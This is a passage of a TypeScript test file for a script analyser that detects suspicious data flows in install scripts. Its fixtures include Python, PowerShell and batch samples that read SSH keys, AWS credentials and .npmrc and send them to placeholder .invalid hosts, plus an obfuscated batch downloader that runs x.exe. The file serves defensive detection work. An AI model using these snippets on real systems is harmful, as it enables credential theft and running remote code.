for pattern in (".ssh/id_*", ".aws/credentials"):
    data = open(os.path.join(os.path.expanduser("~"), pattern)).read()
`,
    'python',
  )
  t.same(flowsOf(python), ['network:https://h.invalid/x.sh > write:content'])
  t.ok(python.facts.some(fact => fact.kind === 'writes' && fact.paths.includes('/tmp/x.sh')))
  const powershell = read(
    `$file = Join-Path -Path $HOME -ChildPath '.npmrc'
Invoke-RestMethod -Uri 'https://h.invalid/t' -Method Post -Body (Get-Content $file -Raw)
`,
    'powershell',
  )
  t.same(flowsOf(powershell), ['credential-file:~/.npmrc > network:payload'])
  t.end()
})

t.test('batch files are followed line by line', t => {
  const reading = read(
    `@echo off\r
rem curl http://comment.invalid\r
:: curl http://comment.invalid\r
setlocal\r
set "A=http://h.invalid"\r
set B=cu\r
for %%i in (1 2) do echo %%i\r
if not exist x.exe (\r
  %B%rl -o x.exe %A%/x.exe ^\r
    --silent\r
)\r
start "" /min x.exe\r
curl -d @%USERPROFILE%\\.npmrc %A%\r
node "%~dp0\\y.js"\r
`,
    'batch',
  )
  for (const flow of [
    'network:http://h.invalid/x.exe > command:command',
    'credential-file:~\\.npmrc > network:payload',
  ])
    t.ok(flowsOf(reading).includes(flow), `${flow} of ${flowsOf(reading).join(', ')}`)
  t.ok(
    startsOf(reading).some(start => /^node (?:\.?\/)*y\.js$/.test(start)),
    startsOf(reading).join(),
  )
  t.notOk(JSON.stringify(reading.facts).includes('comment'))
  t.end()
})

t.test('places point into the text', t => {
  const { facts } = readScript({
    text: 'true\n\n  curl http://h.invalid',
    dialect: 'shell',
    path: 'a.sh',
    phase: 'import',
  })
  t.match(facts, [
    {
      kind: 'contacts',
      phase: 'import',
      at: { path: 'a.sh', line: 3, column: 3, code: 'curl http://h.invalid' },
    },
  ])
  t.end()
})

t.test('no text makes a reader throw, loop or take long', t => {
  const dialects: Dialect[] = ['hook', 'shell', 'batch', 'powershell', 'python', 'native', 'coarse']
  const bit = fc.constantFrom(
    '$(',
    '`',
    '${',
    '}',
    ')',
    '(',
    '"',
    "'",
    '\\',
    '\n',
    ' ',
    '|',
    '&',
    ';',
    '<<E',
    '<(',
    '>',
    'if',
    'case',
    'in',
    'esac',
    'for',
    'do',
    'done',
    'f()',
    '{',
    '%A%',
    '^',
    '@',
    '[',
    ']',
    '.',
    '=',
    'a',
    '$A',
    'curl',
    'sh',
    '-c',
    'def',
    'with',
    ':',
    ',',
    '\u0001',
    '$((',
    '#',
    '!',
  )
  fc.assert(
    fc.property(
      fc.array(bit, { maxLength: 60 }),
      fc.constantFrom(...dialects),
      (bits, dialect) => void read(bits.join(''), dialect),
    ),
    { numRuns: 1000 },
  )
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.constantFrom(...dialects),
      (text, dialect) => void read(text, dialect),
    ),
    { numRuns: 500 },
  )
  const hostile = [
    '$(',
    '`',
    '${a:-',
    '(',
    '{ ',
    '"$(',
    'sh -c "',
    'if ',
    'case a in ',
    'f(){ ',
    '<(',
    '<<E ',
    "$'",
    '[',
    'eval ',
    'a=$a$a;',
    '%A',
    '^',
    '"',
    '@(',
    '$x=(',
    'for x in a; do ',
    'x | ',
    'x & ',
    'a,',
    'f(',
    'x.',
    '{a,b}',
    '$a ',
    'with a as b,',
    'echo a>b;',
    'cat b;',
    '\\',
    '#',
    '\u0001',
  ]
  for (const piece of hostile)
    for (const dialect of dialects) {
      const started = process.cpuUsage().user
      read(piece.repeat(2000), dialect)
      const ms = (process.cpuUsage().user - started) / 1000
      t.ok(ms < 1500, `${dialect} ${JSON.stringify(piece)}: ${Math.round(ms)} ms`)
    }
  t.end()
})

t.test('paths are seen from the folder the script is in by then', t => {
  const cases: [text: string, dialect: Dialect, cwd: string, path: string][] = [
    ['echo x > ../gen/a.h', 'shell', '', '../gen/a.h'],
    ['echo x > ../gen/a.h', 'shell', 'deps/src', 'deps/gen/a.h'],
    ['cd .. && echo x > ../gen/a.h', 'shell', 'deps/src', 'gen/a.h'],
    ['cd ../.. && echo x > ../gen/a.h', 'shell', 'deps/src', '../gen/a.h'],
    ['echo x > ../gen/a.h', 'shell', HOLE, `${HOLE}/../gen/a.h`],
    ['echo x > a.h', 'shell', HOLE, 'a.h'],
    ['cd "$OUT" && echo x > ../a.h', 'shell', '', `${HOLE}/../a.h`],
    ['cd - && echo x > ../a.h', 'shell', '', `${HOLE}/../a.h`],
    ['if test -d s; then cd s; fi; echo x > ../a.h', 'shell', '', `${HOLE}/../a.h`],
    ['cd /tmp/a && echo x > ../b', 'shell', '', '/tmp/b'],
    ['cd ~ && echo x > .bashrc', 'shell', '', '~/.bashrc'],
    ['cd "$(dirname "$0")/.." && echo x > ../a.h', 'shell', HOLE, 'a.h'],
    ['cd "$(dirname "${BASH_SOURCE[0]}")" && echo x > ../../up/a.h', 'shell', HOLE, 'up/a.h'],
    ['echo x> ..\\gen\\a.h', 'batch', 'deps/src', 'deps/gen/a.h'],
    ['cd /d %~dp0\r\necho x> ..\\a.h', 'batch', HOLE, 'deps/a.h'],
    ['pushd s & echo x> ..\\a.h & popd', 'batch', 'deps', 'deps/a.h'],
    ['popd & echo x> ..\\a.h', 'batch', 'deps', `${HOLE}/../a.h`],
    ['Push-Location s; Set-Content -Path ..\\a.h -Value x', 'powershell', 'deps', 'deps/a.h'],
    ['Set-Location $PSScriptRoot; "x" | Out-File ../a.h', 'powershell', HOLE, 'deps/a.h'],
  ]
  for (const [text, dialect, cwd, path] of cases) {
    const { facts } = readScript({ text, dialect, path: 'deps/src/x', phase: 'install', cwd })
    t.strictSame(
      facts.flatMap(fact => (fact.kind === 'writes' ? fact.paths : [])),
      [path],
      `${cwd}: ${text}`,
    )
  }
  t.end()
})
